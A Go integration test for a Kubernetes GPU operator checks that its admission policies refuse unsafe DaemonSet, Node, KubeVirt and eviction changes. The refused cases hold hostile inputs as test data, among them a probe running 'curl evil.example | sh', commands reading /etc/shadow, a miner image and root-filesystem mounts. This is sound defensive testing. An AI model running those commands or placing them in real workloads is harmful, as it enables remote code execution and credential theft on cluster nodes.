package helm

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/sandbox-gpu/sandbox-gpu/internal/names"
	v1alpha1 "github.com/sandbox-gpu/sandbox-gpu/operator/api/v1alpha1"
	"github.com/sandbox-gpu/sandbox-gpu/operator/operands"
)

// Denial messages of the operator's admission policies (templates/admission.yaml).
const (
	denyDaemonSetName = "the sandbox-gpu operator may write only its operands' DaemonSets in sandbox-gpu"
	denyAccount       = "must run as ServiceAccount "
	denyImage         = "ValidatingAdmissionPolicy 'sandbox-gpu-operator-images'"
	denyVolume        = "may mount only the host folders its operands use and ConfigMaps; not volume "
	denyPrivileged    = "may not run privileged containers"
	denyCapabilities  = "may not add capabilities"
	denyHostNS        = "may not use the host's PID, IPC or network namespace"
	denyNodeLabels    = "the sandbox-gpu operator may change only a Node's sandbox-gpu.io/deploy.* and sandbox-gpu.io/release.* labels and remove nvidia.com/vgpu.config.state, not "
	denyNodeNotes     = "the sandbox-gpu operator may only remove a Node's sandbox-gpu.io/release-report.* annotations, not change "
	denyNodeSpec      = "the sandbox-gpu operator may not change a Node's spec (taints, unschedulable)"
	denyOwners        = "the sandbox-gpu operator may not change the metadata.ownerReferences or metadata.finalizers of nodes"
	denyKubeVirt      = "the sandbox-gpu operator may change a KubeVirt CR only under spec.configuration.permittedHostDevices, and add the DisableMDEVConfiguration feature gate"
	denyKubeVirtMeta  = "the sandbox-gpu operator may change no label of a KubeVirt CR"
	denyEviction      = "the sandbox-gpu operator may evict pods only while the SandboxGPUPolicy sets spec.drain.evict"
	denyPolicy        = "the sandbox-gpu operator may change only the finalizers of a SandboxGPUPolicy"
	denyDriverCommand = "the sandbox-gpu operator runs NVIDIA's vGPU host driver only as nvidia-driver init (with the policy's args) and its own probes"
	denyPluginCommand = "the sandbox-gpu operator runs NVIDIA's device plugin only as nvidia-device-plugin (with the policy's args), without probes or hooks"
)

// operatorClient acts as the operator's service account.
func operatorClient(t *testing.T) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(restConfig)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + releaseNamespace + ":" + operatorSA,
		Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + releaseNamespace, "system:authenticated"}}
	c, err := client.New(cfg, client.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// admissionPolicy is the SandboxGPUPolicy the operator's admission policies read: an image of its own for
// the VFIO manager, NVIDIA's vGPU host driver from a private registry, no evictions.
func admissionPolicy() *v1alpha1.SandboxGPUPolicySpec {
	p := &v1alpha1.SandboxGPUPolicySpec{}
	p.SandboxWorkloads.Enabled = true
	p.VFIOManager.Image = "registry.example/mirror/vfio-manager:dev"
	on := true
	p.VGPUManager.Enabled = &on
	p.VGPUManager.Repository = "nvcr.example/nvidia/"
	p.VGPUManager.Image = "vgpu-manager"
	p.VGPUManager.Version = "550.90.05"
	p.VGPUManager.Args = []string{"--debug"}
	p.DevicePlugin.Args = []string{"--mig-strategy=single"}
	return p
}

// operatorAdmission proves the operator's admission policies on the real API server, as the operator's
// account (RBAC from the chart already in force): every DaemonSet the operator builds under the policy
// passes, and so do the Node, KubeVirt, eviction and policy writes it makes; each write it must not make
// is refused with its message. Writes are server-side dry runs (admission runs on them all the same).
func operatorAdmission(t *testing.T) {
	ctx := t.Context()
	for _, obj := range mustRender(t) {
		switch obj.GetKind() {
		case "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding":
		default:
			continue
		}
		if err := k8sClient.Apply(ctx, client.ApplyConfigurationFromUnstructured(obj.DeepCopy()), client.FieldOwner("rbac-test"), client.ForceOwnership); err != nil {
			t.Fatalf("apply %s %s: %v", obj.GetKind(), key(obj), err)
		}
		t.Cleanup(func() { _ = k8sClient.Delete(context.Background(), obj.DeepCopy()) })
	}
	spec := admissionPolicy()
	policy := toUnstructured(t, &v1alpha1.SandboxGPUPolicy{TypeMeta: metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion.String(), Kind: "SandboxGPUPolicy"},
		ObjectMeta: metav1.ObjectMeta{Name: "default"}, Spec: *spec})
	mustCreate(t, policy)
	op := operatorClient(t)
	dry := client.DryRunAll

	build := func(operand string) *appsv1.DaemonSet {
		ds, err := operands.Build(operand, spec, operands.Options{Namespace: releaseNamespace, Registry: "ghcr.io/sandbox-gpu",
			Version: appVersion(t), OSTag: "ubuntu22.04"})
		if err != nil {
			t.Fatal(err)
		}
		return ds
	}
	// The policies take effect once the API server has loaded them (and the policy, their parameter).
	waitDenied(t, "the operator's images policy", denyImage, func() error {
		ds := build(names.Validator)
		ds.Spec.Template.Spec.Containers[0].Image = "docker.io/evil/miner:latest"
		return op.Create(ctx, ds, dry)
	})
	waitDenied(t, "the operator's bounds policy", denyNodeSpec, func() error {
		return op.Patch(ctx, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "adm-gpu"}}, rawMerge(`{"spec":{"unschedulable":true}}`), dry)
	}, func() {
		mustCreate(t, toUnstructured(t, &corev1.Node{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Node"},
			ObjectMeta: metav1.ObjectMeta{Name: "adm-gpu", Labels: map[string]string{names.GPUPresentLabel: "true",
				names.ReleaseLabel(names.VFIOManager): "true", names.VGPUConfigStateLabel: "success", names.WorkloadConfigLabel: "vm-passthrough"},
				Annotations: map[string]string{names.ReleaseReportAnnotation(names.VFIOManager): `{"done":true}`, names.VMGPUsAnnotation: "2"}}}))
	})

	// DaemonSets: every operand as the operator builds it passes; each change refused.
	for _, operand := range operands.Names() {
		if err := op.Create(ctx, build(operand), dry); err != nil {
			t.Errorf("the operator's %s DaemonSet: %v", operand, err)
		}
	}
	hostPath := func(name, path string) corev1.Volume {
		return corev1.Volume{Name: name, VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: path}}}
	}
	yes := true
	for _, tc := range []struct {
		what, operand string
		change        func(ds *appsv1.DaemonSet, c *corev1.Container)
		deny          string // "" allowed
	}{
		{"a DaemonSet of another name", names.Validator, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Name = "sandbox-gpu-miner" }, denyDaemonSetName},
		{"another operand's account", names.Validator, func(ds *appsv1.DaemonSet, _ *corev1.Container) {
			ds.Spec.Template.Spec.ServiceAccountName = operands.ServiceAccountName(names.VFIOManager)
		}, denyAccount + "sandbox-gpu-validator, not sandbox-gpu-vfio-manager"},
		{"the default account", names.NRIPlugin, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Spec.Template.Spec.ServiceAccountName = "" },
			denyAccount + "sandbox-gpu-nri-plugin, not default"},
		{"an image from elsewhere", names.VFIOManager, func(_ *appsv1.DaemonSet, c *corev1.Container) { c.Image = "docker.io/evil/miner:latest" },
			"may run only ghcr.io/sandbox-gpu/vfio-manager:" + appVersion(t) + " or registry.example/mirror/vfio-manager:dev (the SandboxGPUPolicy names the others), not docker.io/evil/miner:latest"},
		{"another operand's image", names.Validator, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.Image = "ghcr.io/sandbox-gpu/vfio-manager:" + appVersion(t)
		}, denyImage},
		{"an init container's image", names.Validator, func(ds *appsv1.DaemonSet, c *corev1.Container) {
			ds.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "init", Image: "busybox", Command: []string{"sh"}}}
		}, denyImage},
		{"the vGPU host driver from another repository", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.Image = "nvcr.example/nvidia/vgpu-manager-x:550.90.05"
		}, "may run only nvcr.example/nvidia/vgpu-manager:<tag>"},
		{"the vGPU host driver by digest", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.Image = "nvcr.example/nvidia/vgpu-manager@sha256:" + strings.Repeat("ab", 32)
		}, ""},
		{"the host's root", names.Validator, func(ds *appsv1.DaemonSet, _ *corev1.Container) {
			ds.Spec.Template.Spec.Volumes = append(ds.Spec.Template.Spec.Volumes, hostPath("root", "/"))
		}, denyVolume + "root"},
		{"the kubelet's folder", names.VFIOManager, func(ds *appsv1.DaemonSet, _ *corev1.Container) {
			ds.Spec.Template.Spec.Volumes = append(ds.Spec.Template.Spec.Volumes, hostPath("kubelet", "/var/lib/kubelet"))
		}, denyVolume + "kubelet"},
		{"/etc", names.VGPUManager, func(ds *appsv1.DaemonSet, _ *corev1.Container) {
			ds.Spec.Template.Spec.Volumes = append(ds.Spec.Template.Spec.Volumes, hostPath("etc", "/etc"))
		}, denyVolume + "etc"},
		{"a Secret", names.Validator, func(ds *appsv1.DaemonSet, _ *corev1.Container) {
			ds.Spec.Template.Spec.Volumes = append(ds.Spec.Template.Spec.Volumes, corev1.Volume{Name: "token",
				VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "regcred"}}})
		}, denyVolume + "token"},
		{"a folder of the run folder", names.Validator, func(ds *appsv1.DaemonSet, _ *corev1.Container) {
			ds.Spec.Template.Spec.Volumes = append(ds.Spec.Template.Spec.Volumes, hostPath("own", names.RunDir+"/validator"))
		}, ""},
		{"a privileged NRI plugin", names.NRIPlugin, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.SecurityContext.Privileged, c.SecurityContext.AllowPrivilegeEscalation = &yes, &yes
		}, denyPrivileged},
		{"a privileged validator", names.Validator, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.SecurityContext.Privileged, c.SecurityContext.AllowPrivilegeEscalation = &yes, &yes
		}, denyPrivileged},
		{"an added capability", names.KataDevicePlugin, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.SecurityContext.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}
		}, denyCapabilities},
		{"the host's PID namespace", names.Validator, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Spec.Template.Spec.HostPID = true }, denyHostNS},
		{"the host's network", names.NRIPlugin, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Spec.Template.Spec.HostNetwork = true }, denyHostNS},
		// NVIDIA's images have a shell: only the command, args and probes the operator builds.
		{"a shell in the vGPU host driver", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.Command, c.Args = []string{"sh", "-c", "cat /etc/shadow"}, nil
		}, denyDriverCommand},
		{"the vGPU host driver with other args", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) { c.Args = []string{"init", "--evil"} }, denyDriverCommand},
		{"the vGPU host driver's probe rewritten", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.ReadinessProbe.Exec.Command = []string{"sh", "-c", "curl evil.example | sh"}
		}, denyDriverCommand},
		{"a lifecycle hook in the vGPU host driver", names.VGPUManager, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "true"}}}}
		}, denyDriverCommand},
		{"a shell in NVIDIA's device plugin", names.NVIDIADevicePlugin, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.Command = []string{"sh", "-c", "cat /etc/shadow"}
		}, denyPluginCommand},
		{"a probe in NVIDIA's device plugin", names.NVIDIADevicePlugin, func(_ *appsv1.DaemonSet, c *corev1.Container) {
			c.LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"sh", "-c", "true"}}}}
		}, denyPluginCommand},
		{"the host's IPC namespace", names.VFIOManager, func(ds *appsv1.DaemonSet, _ *corev1.Container) { ds.Spec.Template.Spec.HostIPC = true }, denyHostNS},
	} {
		ds := build(tc.operand)
		tc.change(ds, &ds.Spec.Template.Spec.Containers[0])
		expect(t, tc.what, tc.deny, op.Create(ctx, ds, dry))
	}

	// Nodes: its deploy and release labels, the vGPU state and release reports only removed.
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "adm-gpu"}}
	for _, tc := range []struct{ what, patch, deny string }{
		{"a deploy label", `{"metadata":{"labels":{"` + names.DeployLabel(names.VFIOManager) + `":"true"}}}`, ""},
		{"the release label removed", `{"metadata":{"labels":{"` + names.ReleaseLabel(names.VFIOManager) + `":null}}}`, ""},
		{"the vGPU state removed", `{"metadata":{"labels":{"` + names.VGPUConfigStateLabel + `":null}}}`, ""},
		{"a release report removed", `{"metadata":{"annotations":{"` + names.ReleaseReportAnnotation(names.VFIOManager) + `":null}}}`, ""},
		{"a taint", `{"spec":{"taints":[{"key":"example.com/evict","effect":"NoExecute"}]}}`, denyNodeSpec},
		{"unschedulable", `{"spec":{"unschedulable":true}}`, denyNodeSpec},
		{"the workload config", `{"metadata":{"labels":{"` + names.WorkloadConfigLabel + `":"container"}}}`, denyNodeLabels + names.WorkloadConfigLabel},
		{"gpu.present removed", `{"metadata":{"labels":{"` + names.GPUPresentLabel + `":null}}}`, denyNodeLabels + names.GPUPresentLabel},
		{"the vGPU state set", `{"metadata":{"labels":{"` + names.VGPUConfigStateLabel + `":"failed"}}}`, denyNodeLabels + names.VGPUConfigStateLabel},
		{"a foreign label", `{"metadata":{"labels":{"kubernetes.io/hostname":"x"}}}`, denyNodeLabels + "kubernetes.io/hostname"},
		{"the admin's split", `{"metadata":{"annotations":{"` + names.VMGPUsAnnotation + `":"all"}}}`, denyNodeNotes + names.VMGPUsAnnotation},
		{"a release report written", `{"metadata":{"annotations":{"` + names.ReleaseReportAnnotation(names.VGPUDeviceManager) + `":"{}"}}}`,
			denyNodeNotes + names.ReleaseReportAnnotation(names.VGPUDeviceManager)},
		{"an owner", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Pod","name":"gone","uid":"22222222-2222-2222-2222-222222222222"}]}}`, denyOwners},
		{"a finalizer", `{"metadata":{"finalizers":["example.com/hold"]}}`, denyOwners},
	} {
		expect(t, "Node: "+tc.what, tc.deny, op.Patch(ctx, node, rawMerge(tc.patch), dry))
	}

	// The KubeVirt CR: permittedHostDevices, the MDEV gate and its own annotation.
	mustCreate(t, &unstructured.Unstructured{Object: map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"name": "kubevirt"}}})
	mustCreate(t, &unstructured.Unstructured{Object: map[string]any{"apiVersion": "kubevirt.io/v1", "kind": "KubeVirt",
		"metadata": map[string]any{"name": "kubevirt", "namespace": "kubevirt", "labels": map[string]any{"app": "kubevirt"}},
		"spec": map[string]any{"imageRegistry": "quay.io/kubevirt", "configuration": map[string]any{
			"developerConfiguration": map[string]any{"featureGates": []any{"HostDevices"}, "useEmulation": false},
			"permittedHostDevices":   map[string]any{}}}}})
	for _, tc := range []struct {
		what   string
		change func(spec map[string]any, meta *unstructured.Unstructured)
		deny   string
	}{
		{"its entries, gate and annotation", func(spec map[string]any, meta *unstructured.Unstructured) {
			cfg := spec["configuration"].(map[string]any)
			cfg["permittedHostDevices"] = map[string]any{"pciHostDevices": []any{map[string]any{"pciVendorSelector": "10DE:2236", "resourceName": "nvidia.com/GA102GL_A10"}}}
			cfg["developerConfiguration"].(map[string]any)["featureGates"] = []any{"HostDevices", "DisableMDEVConfiguration"}
			meta.SetAnnotations(map[string]string{names.ManagedPermittedAnnotation: `["pci|nvidia.com/GA102GL_A10|10DE:2236"]`})
		}, ""},
		{"its image registry", func(spec map[string]any, _ *unstructured.Unstructured) {
			spec["imageRegistry"] = "evil.example/kubevirt"
		}, denyKubeVirt},
		{"another feature gate", func(spec map[string]any, _ *unstructured.Unstructured) {
			spec["configuration"].(map[string]any)["developerConfiguration"].(map[string]any)["featureGates"] = []any{"HostDevices", "Root"}
		}, denyKubeVirt},
		{"a gate removed", func(spec map[string]any, _ *unstructured.Unstructured) {
			spec["configuration"].(map[string]any)["developerConfiguration"].(map[string]any)["featureGates"] = []any{}
		}, denyKubeVirt},
		{"emulation", func(spec map[string]any, _ *unstructured.Unstructured) {
			spec["configuration"].(map[string]any)["developerConfiguration"].(map[string]any)["useEmulation"] = true
		}, denyKubeVirt},
		{"mediated devices configuration", func(spec map[string]any, _ *unstructured.Unstructured) {
			spec["configuration"].(map[string]any)["mediatedDevicesConfiguration"] = map[string]any{"mediatedDeviceTypes": []any{"nvidia-222"}}
		}, denyKubeVirt},
		{"a label", func(_ map[string]any, meta *unstructured.Unstructured) {
			meta.SetLabels(map[string]string{"app": "other"})
		}, denyKubeVirtMeta},
	} {
		cr := &unstructured.Unstructured{}
		cr.SetAPIVersion("kubevirt.io/v1")
		cr.SetKind("KubeVirt")
		if err := op.Get(ctx, client.ObjectKey{Namespace: "kubevirt", Name: "kubevirt"}, cr); err != nil {
			t.Fatal(err)
		}
		spec, _, _ := unstructured.NestedMap(cr.Object, "spec")
		tc.change(spec, cr)
		if err := unstructured.SetNestedMap(cr.Object, spec, "spec"); err != nil {
			t.Fatal(err)
		}
		expect(t, "KubeVirt: "+tc.what, tc.deny, op.Update(ctx, cr, dry))
	}

	// The policy, the images' parameter: its finalizers only.
	pol := &metav1.PartialObjectMetadata{TypeMeta: metav1.TypeMeta{APIVersion: v1alpha1.GroupVersion.String(), Kind: "SandboxGPUPolicy"},
		ObjectMeta: metav1.ObjectMeta{Name: "default"}}
	expect(t, "the policy's finalizer", "", op.Patch(ctx, pol, rawMerge(`{"metadata":{"finalizers":["sandbox-gpu.io/release-gpus"]}}`), dry))
	expect(t, "the policy's images", denyPolicy, op.Patch(ctx, pol, rawMerge(`{"spec":{"validator":{"image":"docker.io/evil/miner:latest"}}}`), dry))
	expect(t, "the policy's evictions", denyPolicy, op.Patch(ctx, pol, rawMerge(`{"spec":{"drain":{"evict":true}}}`), dry))

	// Evictions: only while the policy asks for them.
	mustCreate(t, &unstructured.Unstructured{Object: map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"name": "workloads"}}})
	pod := &corev1.Pod{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"}, ObjectMeta: metav1.ObjectMeta{Name: "train", Namespace: "workloads"},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "busybox"}}}}
	mustCreate(t, toUnstructured(t, pod))
	evict := func() error {
		return op.SubResource("eviction").Create(ctx, pod, &policyv1.Eviction{ObjectMeta: metav1.ObjectMeta{Name: pod.Name, Namespace: pod.Namespace},
			DeleteOptions: &metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}}})
	}
	waitDenied(t, "the operator's evictions policy", denyEviction+"; not workloads/train", evict)
	if err := k8sClient.Patch(ctx, pol, rawMerge(`{"spec":{"drain":{"evict":true}}}`)); err != nil {
		t.Fatal(err)
	}
	waitAllowed(t, "an eviction once the policy sets drain.evict", evict)

	// A simulated host's folders (the cluster suite's, which puts its operand pods there in admission,
	// never in the DaemonSets) are no operand's: the operator cannot mount them.
	const sim = "/var/tmp/simhost"
	for _, dir := range []string{"sys", "dev", "proc"} {
		ds, err := operands.Build(names.VFIOManager, spec, operands.Options{Namespace: releaseNamespace, Registry: "ghcr.io/sandbox-gpu", Version: appVersion(t)})
		if err != nil {
			t.Fatal(err)
		}
		ds.Spec.Template.Spec.Volumes = append(ds.Spec.Template.Spec.Volumes, hostPath("host-"+dir, sim+"/"+dir))
		expect(t, "the simulated host's "+dir, denyVolume+"host-"+dir, op.Create(ctx, ds, dry))
	}
}

// expect checks one admission row: allowed when deny is "", else refused by a ValidatingAdmissionPolicy
// with a message containing deny.
func expect(t *testing.T, what, deny string, err error) {
	t.Helper()
	switch {
	case deny == "" && err != nil:
		t.Errorf("%s: refused: %v", what, err)
	case deny != "" && err == nil:
		t.Errorf("%s: allowed, want refused with %q", what, deny)
	case deny != "" && (!strings.Contains(err.Error(), deny) || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy")):
		t.Errorf("%s: refused with %v, want %q by a ValidatingAdmissionPolicy", what, err, deny)
	}
}

// waitDenied polls write until the API server refuses it with want (the policies and their parameter
// loaded), or fails the test at the deadline; setup runs once before.
func waitDenied(t *testing.T, what, want string, write func() error, setup ...func()) {
	t.Helper()
	for _, s := range setup {
		s()
	}
	poll(t, what, func() (bool, error) {
		err := write()
		return err != nil && strings.Contains(err.Error(), want), err
	})
}

// waitAllowed polls write until it passes.
func waitAllowed(t *testing.T, what string, write func() error) {
	t.Helper()
	poll(t, what, func() (bool, error) {
		err := write()
		return err == nil, err
	})
}

func poll(t *testing.T, what string, done func() (bool, error)) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		ok, last := done()
		if ok {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s: not in force after 30s (last: %v)", what, last)
		}
		select {
		case <-t.Context().Done():
			t.Fatal(t.Context().Err())
		case <-time.After(100 * time.Millisecond):
		}
	}
}

func rawMerge(patch string) client.Patch { return client.RawPatch(types.MergePatchType, []byte(patch)) }

// toUnstructured converts a typed object for k8sClient, whose scheme lacks the product's types.
func toUnstructured(t *testing.T, obj any) *unstructured.Unstructured {
	t.Helper()
	b, err := json.Marshal(obj)
	if err != nil {
		t.Fatal(err)
	}
	u := &unstructured.Unstructured{}
	if err := u.UnmarshalJSON(b); err != nil {
		t.Fatal(err)
	}
	return u
}

// mustCreate creates obj as the test's admin and deletes it when the test ends.
func mustCreate(t *testing.T, obj *unstructured.Unstructured) {
	t.Helper()
	if err := k8sClient.Create(t.Context(), obj); err != nil {
		t.Fatalf("create %s %s: %v", obj.GetKind(), key(obj), err)
	}
	t.Cleanup(func() { _ = k8sClient.Delete(context.Background(), obj) })
}
